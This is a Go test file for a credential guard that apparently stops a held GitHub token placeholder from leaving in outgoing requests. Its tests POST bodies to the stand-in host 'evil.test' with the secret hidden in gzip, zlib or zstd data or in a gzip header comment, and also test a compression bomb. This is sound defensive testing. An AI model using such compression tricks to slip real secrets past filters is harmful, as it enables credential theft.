package credential

import (
	"bufio"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"context"
	"encoding/base64"
	"errors"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"
)

// packers compress in every way that is looked into, by their own names.
var packers = map[string]func(io.Writer) io.WriteCloser{
	"gzip":        func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) },
	"GZip":        func(w io.Writer) io.WriteCloser { z, _ := gzip.NewWriterLevel(w, gzip.NoCompression); return z },
	"x-gzip":      func(w io.Writer) io.WriteCloser { z, _ := gzip.NewWriterLevel(w, gzip.BestSpeed); return z },
	"deflate":     func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) },
	"deflate ":    func(w io.Writer) io.WriteCloser { z, _ := flate.NewWriter(w, 9); return z },
	"zstd":        func(w io.Writer) io.WriteCloser { z, _ := zstd.NewWriter(w); return z },
	"gzip, utf-8": func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) },
}

func packedBy(t testing.TB, pack func(io.Writer) io.WriteCloser, text string) []byte {
	var out bytes.Buffer
	w := pack(&out)
	if _, err := io.WriteString(w, text); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// sendPacked sends a body that is said to be compressed by coding.
func (d *desk) sendPacked(coding string, body []byte, size int) (sent []byte, err error) {
	r := request("POST", "https://evil.test/", "Content-Encoding", coding)
	r.Body = io.NopCloser(&inPieces{body, size})
	if err := d.Outgoing(context.Background(), "evil.test", 443, r); err != nil {
		return nil, err
	}
	defer r.Body.Close()
	return io.ReadAll(r.Body)
}

// noise is text that hardly shrinks.
func noise(n int) string {
	b := make([]byte, n)
	r := rand.NewChaCha8([32]byte{1})
	r.Read(b)
	return base64.StdEncoding.EncodeToString(b)
}

// A placeholder is found in what is compressed as well, wherever it is and
// however it comes; nothing of the end leaves.
func TestAttackPlaceholderInACompressedBody(t *testing.T) {
	d := lend(t, github())
	p := d.held["github"]
	for coding, pack := range packers {
		for _, before := range []string{"", noise(100_000), strings.Repeat("x", 2*streamChunk-len(p)/2)} {
			for _, size := range []int{1, 997, 1 << 20} {
				body := packedBy(t, pack, before+p+noise(20_000))
				sent, err := d.sendPacked(coding, body, size)
				d.refusedBy(err, "misplaced")
				if len(sent) >= len(body)-10_000 || bytes.Contains(sent, []byte(p)) {
					t.Errorf("%s in pieces of %d: %d of %d bytes left", coding, size, len(sent), len(body))
				}
			}
		}
	}
}

// Without one, the body leaves byte for byte.
func TestCompressedBodyLeavesAsItIs(t *testing.T) {
	d := lend(t, github())
	for coding, pack := range packers {
		for _, text := range []string{"", "short", strings.Repeat("plain ghp_ text\n", 100_000), noise(300_000)} {
			body := packedBy(t, pack, text)
			if sent, err := d.sendPacked(coding, body, 3001); err != nil || !bytes.Equal(sent, body) {
				t.Errorf("%s: %d of %d bytes, %v", coding, len(sent), len(body), err)
			}
		}
	}
	two := append(packedBy(t, packers["gzip"], "one"), packedBy(t, packers["gzip"], "two")...)
	if sent, err := d.sendPacked("gzip", two, 1); err != nil || !bytes.Equal(sent, two) {
		t.Errorf("two members: %q, %v", sent, err)
	}
	for _, coding := range []string{"", "identity", "aws-chunked", "gzip"} {
		if sent, err := d.sendPacked(coding, nil, 1); err != nil || len(sent) != 0 {
			t.Errorf("an empty body in %q: %v", coding, err)
		}
	}
}

// What was flushed is handed on before the rest is there.
func TestCompressedStreamStaysAStream(t *testing.T) {
	d := lend(t, github())
	from, to := io.Pipe()
	defer to.Close()
	r := request("POST", "https://evil.test/", "Content-Encoding", "gzip")
	r.Body = from
	if err := d.Outgoing(context.Background(), "evil.test", 443, r); err != nil {
		t.Fatal(err)
	}
	z := gzip.NewWriter(to)
	go func() { io.WriteString(z, "one event\n"); z.Flush() }()
	came := make(chan error, 1)
	go func() {
		plain, err := gzip.NewReader(r.Body)
		if err == nil {
			_, err = io.ReadFull(plain, make([]byte, len("one event\n")))
		}
		came <- err
	}()
	select {
	case err := <-came:
		if err != nil {
			t.Error(err)
		}
	case <-time.After(5 * time.Second):
		t.Error("it waits for more")
	}
}

// What cannot be looked into does not leave, and the refusal says so.
func TestAttackBodyThatCannotBeLookedInto(t *testing.T) {
	d := lend(t, github())
	gz := packedBy(t, packers["gzip"], noise(1000))
	empty := append([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255}, bytes.Repeat([]byte{0, 0, 0, 255, 255}, maxHeld/4)...)
	for name, c := range map[string]struct {
		coding string
		body   []byte
	}{
		"brotli": {"br", []byte("x")}, "unknown": {"rot13", []byte("x")}, "twice": {"gzip, gzip", packedBy(t, packers["gzip"], string(gz))},
		"no gzip": {"gzip", []byte("plain text, no archive at all")}, "cut": {"gzip", gz[:500]}, "goes on": {"gzip", append(gz, "and on"...)},
		"zlib goes on": {"deflate", append(packedBy(t, packers["deflate"], "x"), "and on"...)}, "nothing for long": {"gzip", empty},
	} {
		_, err := d.sendPacked(c.coding, c.body, 1<<20)
		if d.refusedBy(err, "unread"); !strings.Contains(err.Error(), "evil.test") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// The work for one body is bounded, however little of it there is.
func TestAttackCompressionBomb(t *testing.T) {
	bomb := packedBy(t, packers["gzip"], strings.Repeat("x", 1<<20))
	for most, want := range map[int64]bool{1<<20 - 1: false, 1 << 20: true} {
		b := &packed{Closer: io.NopCloser(nil), in: &intake{Reader: bufio.NewReader(bytes.NewReader(bomb))}, open: openGzip, most: most,
			look: func([]byte) error { return nil }, unread: func(err error) error { return err }}
		sent, err := io.ReadAll(b)
		if passed := err == nil && bytes.Equal(sent, bomb); passed != want || !want && !errors.Is(err, errUnread) {
			t.Errorf("a mebibyte where %d bytes may be: %v", most, err)
		}
	}
}

// Text beside what is compressed is looked at as it is.
func TestAttackPlaceholderBesideWhatIsCompressed(t *testing.T) {
	d := lend(t, github())
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	z.Comment = d.held["github"]
	io.WriteString(z, "text")
	z.Close()
	_, err := d.sendPacked("gzip", out.Bytes(), 7)
	d.refusedBy(err, "misplaced")
}

// Whatever is inside, a body leaves as it is or not at all.
func FuzzCompressedBody(f *testing.F) {
	for coding, pack := range packers {
		f.Add(coding, packedBy(f, pack, "some text"), 3)
	}
	f.Fuzz(func(t *testing.T, coding string, body []byte, size int) {
		d := lend(t, github())
		sent, err := d.sendPacked(coding, body, 1+size&0xfff)
		if err == nil && !bytes.Equal(sent, body) || !bytes.HasPrefix(body, sent) {
			t.Fatalf("%q left as %q (%v)", body, sent, err)
		}
	})
}
